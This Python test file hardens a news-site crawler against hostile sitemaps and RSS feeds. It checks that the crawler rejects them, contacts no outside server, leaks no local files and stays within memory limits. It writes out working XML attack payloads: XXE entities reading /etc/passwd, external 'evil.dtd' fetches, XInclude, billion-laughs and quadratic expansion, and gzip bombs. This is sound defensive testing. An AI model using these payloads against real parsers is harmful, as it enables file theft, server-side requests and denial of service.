"""Sitemaps and feeds that are made to read files, to contact servers or to cost memory."""

from __future__ import annotations

import codecs
import gzip
from collections.abc import Iterator
from dataclasses import dataclass

import pytest

from sample_site.server import SampleServer
from tests.hostile.watching import MOST_MEMORY, Elsewhere, WatchedCrawl, crawl_watched, healthy
from tests.store.dumped import dumped

pytestmark = pytest.mark.long

MB = 1024 * 1024
SECRET = "root:"
STORY = "https://vov.vn/xa-hoi/a-post9300001.vov"


def laughs(root: str) -> str:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE {root} [<!ENTITY l0 "ha">{levels}]>'


def documents(root: str, record: str, field: str, inner: str, port: int) -> dict[str, bytes]:
    """Hostile documents by name; `root` to `field` are the names of a sitemap's or a feed's elements."""

    def document(value: str, before: str = "") -> bytes:
        opened, closed = (f"<{root}><channel>", f"</channel></{root}>") if inner else (f"<{root}>", f"</{root}>")
        entry = f"<{record}><{field}>{value}</{field}></{record}>"
        return f'<?xml version="1.0"?>{before}{opened}{entry}{closed}'.encode()

    external = f'SYSTEM "http://127.0.0.1:{port}/evil.dtd"'
    return {
        "a file as an entity": document(f"{STORY}?&f;", f'<!DOCTYPE {root} [<!ENTITY f SYSTEM "file:///etc/passwd">]>'),
        "a server as an entity": document("&f;", f"<!DOCTYPE {root} [<!ENTITY f {external}>]>"),
        "an external type": document("&f;", f"<!DOCTYPE {root} {external}>"),
        "a public type": document("&f;", f'<!DOCTYPE {root} PUBLIC "-//a//b" "http://127.0.0.1:{port}/evil.dtd">'),
        "parameter entities": document("a", f"<!DOCTYPE {root} [<!ENTITY % p {external}> %p; %q;]>"),
        "a billion laughs": document("&l9;", laughs(root)),
        "a quadratic blow-up": document("&a;" * 50_000, f'<!DOCTYPE {root} [<!ENTITY a "{"ha" * 50_000}">]>'),
        "an inclusion": b'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>',
        "a stylesheet without a document": f'<?xml-stylesheet href="http://127.0.0.1:{port}/a.xsl"?>'.encode(),
        "a packed bomb": gzip.compress(b" " * 100 * MB),
        "a bomb packed twice": gzip.compress(gzip.compress(b" " * 100 * MB)),
        "rare letters and control characters": f"<{root}>".encode() + ("\U0001f600\x01<a/>" * MB).encode(),
        "100,000 nested elements": f"<{root}>".encode() + b"<a>" * 100_000,
        "a name of 15 MB": f"<{root}><".encode() + b"a" * 15 * MB + b"/>",
        "byte order marks": codecs.BOM_UTF8 * 3_300_000,
        "packed byte order marks": gzip.compress(codecs.BOM_UTF8 * 5_500_000),
        "more elements than may be": f"<{root}>".encode() + b"<a/>" * 2_400_000,
        "more attributes than may be": f"<{root}><a ".encode() + b"".join(b"b%d='' " % n for n in range(900_000)),
        "as many attributes as may be": f"<{root}><a ".encode() + b"".join(b"b%d='' " % n for n in range(190_000)),
    }


@dataclass
class Scene:
    """A site under watch, and what a crawl of it did."""

    site: SampleServer
    elsewhere: Elsewhere
    crawl: WatchedCrawl
    pages: dict[str, str]
    """The url of each document by its name."""


def serve(site: SampleServer, form: str, served: dict[str, bytes]) -> dict[str, str]:
    pages = {name: form.format(number) for number, name in enumerate(served)}
    for name, body in served.items():
        site.answer(pages[name].removeprefix("https://vov.vn"), body=body, headers={"Content-Type": "text/xml"})
    return pages


@pytest.fixture(scope="module", params=["sitemap", "rss"])
def scene(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Scene]:
    folder = tmp_path_factory.mktemp("documents")
    with SampleServer() as site, Elsewhere() as elsewhere:
        own = healthy(site, 1)[0]
        if request.param == "sitemap":
            served = documents("urlset", "url", "loc", "", elsewhere.port)
            pages = serve(site, "https://vov.vn/sitemaps/{}/article.xml", served)
            named = "".join(f"<sitemap><loc>{page}</loc></sitemap>" for page in pages.values())
            site.answer("/sitemap.xml", body=f"<sitemapindex>{named}</sitemapindex>")
            site.answer("/sitemaps/2026/7/article.xml", body=f"<urlset><url><loc>{own.url}</loc></url></urlset>")
        else:
            pages = serve(
                site, "https://vov.vn/rss/{}.rss", documents("rss", "item", "link", "channel", elsewhere.port)
            )
            named = "".join(f'<a href="{page}">a</a>' for page in pages.values())
            site.answer("/rss", body=f'<html><body>{named}<a href="/rss/xa-hoi.rss">a</a></body></html>')
            feed = f"<rss><channel><item><link>{own.url}</link></item></channel></rss>"
            site.answer("/rss/xa-hoi.rss", body=feed)
        site.answer("/", body='<html><body><header><a href="/kinh-te">Kinh tế</a></header></body></html>')
        site.answer("/kinh-te", body=f'<div class="taxonomy-content"><a href="{own.address}">a</a></div>')
        given = (f"sources={request.param}", "since=all", "related=0")
        yield Scene(site, elsewhere, crawl_watched(folder, site.url, *given), pages)


@pytest.mark.parametrize("name", documents("a", "b", "c", "", 1))
def test_a_hostile_document_is_a_source_that_failed(scene: Scene, name: str) -> None:
    state, outcome, reason = scene.crawl.page(scene.pages[name])
    assert (state, outcome) == ("failed", "unreadable")
    assert reason is not None
    assert reason.startswith(("not the XML it should be: ", "an article page without text or media: no markup at all"))


def test_hostile_documents_contact_nobody(scene: Scene) -> None:
    assert scene.crawl.stays_at(scene.site)
    assert not scene.elsewhere.contacts


def test_no_file_comes_in_through_a_document(scene: Scene) -> None:
    assert not any(SECRET in part for part in (*dumped(scene.crawl.store), scene.crawl.log))


def test_a_crawl_with_hostile_documents_goes_on_and_says_so(scene: Scene) -> None:
    assert scene.crawl.addresses() == {healthy(scene.site, 1)[0].url}
    assert scene.crawl.status == 3


def test_a_crawl_with_hostile_documents_stays_small(scene: Scene) -> None:
    assert scene.crawl.peak < MOST_MEMORY
